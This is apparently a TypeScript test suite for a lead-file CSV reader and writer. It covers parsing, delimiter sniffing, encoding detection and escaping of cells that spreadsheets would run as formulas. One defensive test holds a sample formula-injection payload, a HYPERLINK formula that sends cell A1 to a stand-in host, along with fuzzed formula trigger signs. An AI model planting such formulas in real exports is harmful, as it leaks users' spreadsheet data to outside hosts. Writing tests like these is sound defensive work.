/** The reader of lead files: against csv-parse on what RFC 4180 allows, never at a loss on the rest. */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  DELIMITERS,
  readRecord,
  skipSeparatorLine,
  sniffDelimiter,
  type Delimiter,
} from '../../src/domain/csv.ts';
import { csvText, plainCell } from '../../src/domain/csv-text.ts';
import { decodeText, isCharset } from '../../src/domain/file-text.ts';
import { cpuMs } from '../support/cpu-time.ts';

function readAll(text: string, delimiter: Delimiter = ','): string[][] {
  const rows: string[][] = [];
  for (let at = 0; at < text.length;) {
    const { cells, end } = readRecord(text, at, delimiter);
    expect(end).toBeGreaterThan(at);
    rows.push(cells);
    at = end;
  }
  return rows;
}

const delimiter = fc.constantFrom(...DELIMITERS);
/** Cells of what is dangerous, and of anything. */
const cell = fc.oneof(
  fc.string({
    unit: fc.constantFrom('"', ',', ';', '\n', '\r', ' ', "'", '=', '+', 'a', 'ü', '|'),
  }),
  fc.string({ unit: 'binary' }),
);
const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1 });
const anyText = fc.oneof(
  fc.string({ unit: fc.constantFrom('"', '""', ',', ';', '\n', '\r\n', ' ', 'a', '\t', 'sep=') }),
  fc.string({ unit: 'binary' }),
);

describe('readRecord', () => {
  it.each([
    [
      'a,b\nc,d',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    [
      'a,b\r\nc,\r\n',
      [
        ['a', 'b'],
        ['c', ''],
      ],
    ],
    ['a\rb\r', [['a'], ['b']]],
    ['"a ""b"" c","d\r\ne"\n', [['a "b" c', 'd\r\ne']]],
    ['a"b,c""d\n', [['a"b', 'c""d']]],
    ['"a"b,c\n', [['"a"b', 'c']]],
    ['"a" ,"b', [['a', '"b']]],
    [
      '"a,b\n"c",d',
      [
        ['"a', 'b'],
        ['c', 'd'],
      ],
    ],
    ['a, "b, c"\n', [['a', 'b, c']]],
    [
      'a,"b,c\nd,e\n',
      [
        ['a', '"b', 'c'],
        ['d', 'e'],
      ],
    ],
    ['""', [['']]],
    ['"', [['"']]],
    ['\n\na', [[''], [''], ['a']]],
  ])('reads %j', (text, rows) => {
    expect(readAll(text)).toEqual(rows);
  });

  it('reads what csv-stringify writes, as csv-parse does', () => {
    fc.assert(
      fc.property(table, delimiter, fc.constantFrom('\n', '\r\n'), (rows, by, end) => {
        const options = { delimiter: by, record_delimiter: end, quoted: true };
        const text = stringify(rows, options);
        expect(readAll(text, by)).toEqual(rows);
        expect(parse(text, { ...options, relax_column_count: true })).toEqual(rows);
      }),
    );
  });

  it('reads any text to its end and loses none of its letters', () => {
    fc.assert(
      fc.property(anyText, delimiter, (text, by) => {
        const letters = (words: string) => words.replaceAll(/[^\p{L}]/gu, '');
        expect(letters(readAll(text, by).flat().join(''))).toBe(letters(text));
      }),
    );
  });

  it('reads a part of whole records as it reads them within the file', () => {
    fc.assert(
      fc.property(anyText, delimiter, (text, by) => {
        const { cells, end } = readRecord(text, 0, by);
        expect(readRecord(text.slice(0, end), 0, by)).toEqual({ cells, end });
      }),
    );
  });

  it('takes no longer for a file of quotation marks', async () => {
    for (const piece of ['"', '"a', ',"', '""","', '"\n']) {
      const text = piece.repeat(1_000_000);
      expect(await cpuMs(() => readAllQuietly(text))).toBeLessThan(3_000);
    }
  });
});

function readAllQuietly(text: string): void {
  for (let at = 0; at < text.length;) at = readRecord(text, at, ',').end;
}

describe('sniffDelimiter', () => {
  it.each([
    ['a;b;c\n1,2;3;4', ';'],
    ['"a,b,c,d";e\n', ';'],
    ['a\tb,c\td', '\t'],
    ['a', ','],
    ['', ','],
    ['sep=|\na,b', '|'],
    ['"sep=;"\r\na,b', ';'],
  ])('tells %j', (text, by) => {
    expect(sniffDelimiter(text)).toBe(by);
  });

  it("steps over Excel's sep line", () => {
    const text = 'sep=;\r\na;b';
    expect(text.slice(skipSeparatorLine(text))).toBe('a;b');
    expect(skipSeparatorLine('a;b')).toBe(0);
  });
});

describe('csvText', () => {
  it('writes what csv-parse and we read back, blanks at the ends aside', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const text = csvText(rows);
        const options = { record_delimiter: '\r\n', relax_column_count: true };
        for (const read of [readAll(text), parse(text, options) as string[][]]) {
          expect(read.map((row) => row.map(plainCell))).toEqual(
            rows.map((row) => row.map((each) => each.trim())),
          );
        }
      }),
    );
  });

  it('writes no cell that a spreadsheet would calculate, whatever is in it', () => {
    fc.assert(
      fc.property(
        cell,
        fc.constantFrom('=', '+', '-', '@', '\t=', '\r-', ' @', '＝'),
        (text, sign) => {
          const [[written = '']] = parse(csvText([[sign + text, '']])) as [string[]];
          expect(written).toMatch(/^'|^\+[\d ]+$/);
        },
      ),
    );
  });

  it('writes none where a spreadsheet cuts lines at semicolons, tabs, bars or line ends either', () => {
    expect(csvText([['Acme;=HYPERLINK("http://x.test?"&A1)']])).toBe(
      `"Acme;'=HYPERLINK(""http://x.test?""&A1)"\r\n`,
    );
    fc.assert(
      fc.property(
        cell,
        fc.constantFrom(';', '\t', '|', '\n', '\r\n', '; ', ';"', ";'"),
        fc.constantFrom('=', '+', '-', '@', '＝'),
        cell,
        (before, separator, sign, after) => {
          const text = `${before}${separator}${sign}${after}`;
          const [[written = '']] = parse(csvText([[text, '']])) as [string[]];
          const pieces = written.split(/[;\t|\r\n]/).slice(1);
          const formulas = pieces.filter((piece) => /^[\s"]*[=+\-@＝＋－＠]/.test(piece));
          expect(formulas.filter((piece) => !/^\s*\+[\d ]+$/.test(piece))).toEqual([]);
        },
      ),
    );
    expect(csvText([['Office; +49 30 1234567']])).toBe('"Office; +49 30 1234567"\r\n');
  });

  it('leaves numbers and telephone numbers readable', () => {
    expect(csvText([[-5, '+49 30 1234567', '+493012', '-5', true, null]])).toBe(
      "-5,+49 30 1234567,+493012,'-5,true,\r\n",
    );
  });
});

describe('plainCell', () => {
  it.each([
    ['\u202aa@b.com\u202c', 'a@b.com'],
    ['\u200ba@b.com', 'a@b.com'],
    ['a@b.com\u2060 \ufeff', 'a@b.com'],
    [' \u200b Ann \u200f', 'Ann'],
    ["\u200b'+x", '+x'],
    ['دنا\u200cها', 'دنا\u200cها'],
    ['☎\ufe0f', '☎\ufe0f'],
    ['\u200b', ''],
  ])('leaves out the invisible marks around %j', (cell, text) => {
    expect(plainCell(cell)).toBe(text);
  });
});

describe('decodeText', () => {
  it.each([
    ['UTF-8', Buffer.from('Zoë')],
    ['UTF-8 with its mark', Buffer.from('\uFEFFZoë')],
    ['UTF-16LE', Buffer.from('\uFEFFZoë', 'utf16le')],
    ['UTF-16BE', Buffer.from('\uFEFFZoë', 'utf16le').swap16()],
    ['Windows-1252', Buffer.from('Zoë', 'latin1')],
  ])('reads %s', (_name, bytes) => {
    expect(decodeText(bytes)).toBe('Zoë');
  });

  it('reads any bytes as text that can be stored', () => {
    fc.assert(
      fc.property(fc.uint8Array(), (bytes) => {
        const text = decodeText(bytes);
        expect(text).not.toContain('\u0000');
        expect(text).not.toMatch(/\p{Surrogate}/u);
      }),
    );
  });

  const latin1 = (text: string) => Buffer.from(text, 'latin1');
  const named = (n: number) => Array.from({ length: n }, (_, at) => `Jürgen ${at}\n`).join('');

  it.each([
    [
      'a row of Windows-1252',
      [Buffer.from(named(1_000)), latin1('René\n')],
      `${named(1_000)}René\n`,
    ],
    ['both in one row', [Buffer.from('Jörg,Jürgen,'), latin1('René\n')], 'Jörg,Jürgen,René\n'],
    ['a sign of Windows-1252', [Buffer.from('Jörg '), Buffer.from([0x80])], 'Jörg €'],
    ['its end cut off', [Buffer.from(named(3)), Buffer.from('é').subarray(0, 1)], `${named(3)}Ã`],
    ['its mark and broken rows', [Buffer.from('\uFEFFa'), latin1('éü')], 'aéü'],
  ])('keeps the UTF-8 of a file with %s', (_what, parts, text) => {
    expect(decodeText(Buffer.concat(parts))).toBe(text);
  });

  it('takes no seconds for a file of 10 MB that is broken everywhere', async () => {
    const bytes = Buffer.alloc(9_000_000, Buffer.from([0xc3, 0xbc, 0xfc]));
    const decode = () => expect(decodeText(bytes)).toHaveLength(6_000_000);
    expect(await cpuMs(decode)).toBeLessThan(2_000);
  });

  it('reads a file of Windows-1252 as such, also where two of its letters are one of UTF-8', () => {
    const text = 'Müller\nGrÃ¼ße\nRené\nZoë\nFrançois\nJosé\n';
    expect(decodeText(latin1(text))).toBe(text);
  });

  it('reads the signs that Windows-1252 has beside ISO 8859-1', () => {
    const bytes = Uint8Array.from([0x4f, 0x92, 0x42, 0xe9, 0x20, 0x80, 0x35]);
    expect(decodeText(bytes)).toBe('O’Bé €5');
  });

  it.each([
    ['windows-1250', [0x9c, 0xb9], 'śą'],
    ['Windows-1251', [0xcf, 0xf0, 0xe8], 'При'],
    ['cp1254', [0xfe, 0xdd], 'şİ'],
    ['shift_jis', [0x8e, 0x52], '山'],
    ['gbk', [0xd6, 0xd0], '中'],
    ['utf-16le', [0x41, 0x04], 'с'],
    // Many programs say these of every file.
    ['utf-8', [0x5a, 0x6f, 0xeb], 'Zoë'],
    ['iso-8859-1', [0x5a, 0x6f, 0xc3, 0xab], 'Zoë'],
    ['us-ascii', [0x5a, 0x6f, 0xc3, 0xab], 'Zoë'],
  ])('reads what is said to be %s', (charset, bytes, text) => {
    expect(decodeText(Uint8Array.from(bytes), charset)).toBe(text);
  });

  it('believes a byte order mark more than what is said', () => {
    expect(decodeText(Buffer.from('\uFEFFZoë'), 'windows-1251')).toBe('Zoë');
    expect(decodeText(Buffer.from('\uFEFFZoë', 'utf16le'), 'windows-1251')).toBe('Zoë');
  });

  it('knows which charsets it reads', () => {
    expect(isCharset('windows-1250')).toBe(true);
    expect(['klingon', '', 'utf-7', 'replacement'].filter(isCharset)).toEqual([]);
  });
});
